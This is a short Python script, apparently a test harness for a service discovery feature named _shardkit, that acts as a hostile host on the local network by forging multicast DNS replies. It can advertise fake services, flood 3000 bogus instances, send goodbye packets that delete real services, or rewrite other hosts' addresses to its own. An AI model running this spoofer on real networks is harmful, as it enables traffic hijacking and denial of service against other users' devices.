#!/usr/bin/python3
"""A machine on the link that lies: spoof.py IP [ID,ADDRESS,PORT | flood | bye | flush] ...

Answers every multicast query for _shardkit._tcp.local with services of its
own: whose id, address and port are given, 3000 instances (flood), or, for all
services that it hears of, a goodbye (bye), or addresses of its own in place of
theirs (flush). SPDX-License-Identifier: ISC
"""

import socket
import struct
import sys
import time

GROUP, TYPE = "224.0.0.251", b"\x09_shardkit\x04_tcp\x05local\x00"


def label(text):
    return bytes([len(text)]) + text


def record(name, kind, data, ttl=120, flush=0x8000):
    return name + struct.pack(">HHIH", kind, 1 | flush, ttl, len(data)) + data


def service(name, who, address, port, ttl=120):
    instance, host = label(name) + TYPE, label(name) + b"\x05local\x00"
    text = label(b"txtvers=1") + label(b"id=" + who)
    return [record(TYPE, 12, instance, ttl, 0),
            record(instance, 33, struct.pack(">HHH", 0, 0, port) + host, ttl),
            record(instance, 16, text, ttl),
            record(host, 1, socket.inet_aton(address), ttl)]


def message(records):
    return struct.pack(">6H", 0, 0x8400, 0, len(records), 0, 0) + \
        b"".join(records)


def answers(arguments, own):
    for i, argument in enumerate(arguments):
        if argument == "flood":
            for n in range(3000):
                yield message(service(b"flood%d" % n, b"-", own, 2000 + n))
        elif argument not in ("bye", "flush"):
            who, address, port = argument.split(",")
            yield message(service(b"liar%d" % i, who.encode(), address,
                                  int(port)))


def alter(packet, edit):
    """Every record of an answer again, each as `edit` makes it."""
    def skip(at):
        while packet[at] not in (0,) and packet[at] < 0xc0:
            at += packet[at] + 1
        return at + (2 if packet[at] >= 0xc0 else 1)
    at, out = 12, bytearray(packet)
    for _ in range(struct.unpack(">H", packet[4:6])[0]):
        at = skip(at) + 4
    for _ in range(sum(struct.unpack(">3H", packet[6:12]))):
        at = skip(at)
        edit(out, at)
        at += 10 + struct.unpack(">H", packet[at + 8:at + 10])[0]
    return bytes(out)


def goodbye(out, at):
    """A ttl of 0."""
    out[at + 4:at + 8] = bytes(4)


def flush(own):
    """Addresses that are ours, in place of all that were told before."""
    def edit(out, at):
        if out[at:at + 2] == b"\0\1":
            out[at + 2] |= 0x80
            out[at + 10:at + 14] = socket.inet_aton(own)
    return edit


def main(own, *arguments):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((GROUP, 5353))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(GROUP) + socket.inet_aton(own))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                 socket.inet_aton(own))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    print("ready", flush=True)
    while True:
        packet, (sender, _) = s.recvfrom(9000)
        if sender == own or TYPE not in packet:
            continue
        if packet[2] & 0x80:
            if "bye" in arguments:
                s.sendto(alter(packet, goodbye), (GROUP, 5353))
            if "flush" in arguments:
                time.sleep(1.1)  # what is younger than a second stays
                s.sendto(alter(packet, flush(own)), (GROUP, 5353))
            continue
        for answer in answers(arguments, own):
            s.sendto(answer, (GROUP, 5353))


main(*sys.argv[1:])
